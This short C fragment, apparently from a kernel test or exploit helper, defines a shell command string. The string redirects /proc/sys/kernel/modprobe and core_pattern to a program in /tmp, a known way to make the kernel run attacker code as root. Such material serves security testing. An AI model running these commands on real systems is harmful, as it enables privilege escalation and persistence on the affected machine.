// SPDX-License-Identifier: GPL-2.0
/* Names itself where the kernel looks for programs to start. */
#define SCRIPT "echo /tmp/ok > /proc/sys/kernel/modprobe; " \
	"echo '|/tmp/ok' > /proc/sys/kernel/core_pattern"
#include "helper.h"
